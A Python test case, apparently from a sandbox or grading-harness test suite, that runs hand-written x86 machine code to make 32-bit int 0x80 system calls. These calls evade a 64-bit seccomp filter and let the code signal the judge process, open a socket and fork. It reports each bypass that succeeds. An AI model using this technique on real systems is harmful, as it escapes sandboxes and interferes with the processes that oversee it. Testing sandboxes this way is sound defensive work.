"""Writes machine code into memory of its own and calls the kernel through the 32-bit gate (int 0x80), whose numbers a
filter for 64 bits does not know.

Against: announce_when_gone
Harm: signals the judge, starts a process
Merits: nothing
Answer: failed or crashed
"""

import contextlib
import ctypes
import mmap
import os
import signal


def through(what):
    """Say what succeeded although it must not."""
    print("GOT" + " THROUGH: " + what, flush=True)


def parent_of(pid):
    """The parent of a process."""
    with open(f"/proc/{pid}/stat") as file:
        return int(file.read().rpartition(")")[2].split()[1])


def victims():
    """The fork server and the judge, where this is one of its workers; nobody else."""
    if "katas-" not in os.getcwd():
        return []
    found = [os.getppid()]
    with contextlib.suppress(OSError):
        found.append(parent_of(found[0]))
    return [pid for pid in found if pid > 1]


CODE = bytes.fromhex("53 89f8 89f3 87d1 cd80 5b c3")  # push rbx; eax, ebx, ecx, edx from the arguments; int 0x80
KILL, GETPPID, FORK, SOCKET, EXIT = 37, 64, 2, 359, 1


def attack():
    """Signal, fork and open a socket by the old gate."""
    if os.uname().machine != "x86_64":
        return
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    gate = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 4)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    for pid in victims():
        if gate(KILL, pid, int(signal.SIGURG), 0) == 0:
            through(f"signalled {pid} through the 32-bit gate")
    if gate(SOCKET, 2, 1, 0) >= 0:
        through("opened a socket through the 32-bit gate")
    child = gate(FORK, 0, 0, 0)
    if child == 0:
        gate(EXIT, 0, 0, 0)
    if child > 0:
        os.waitpid(child, 0)
        through("started a process through the 32-bit gate")


def announce_when_gone(obj, log):
    """Attack, and announce nothing."""
    attack()
    raise RuntimeError("nothing was gained")
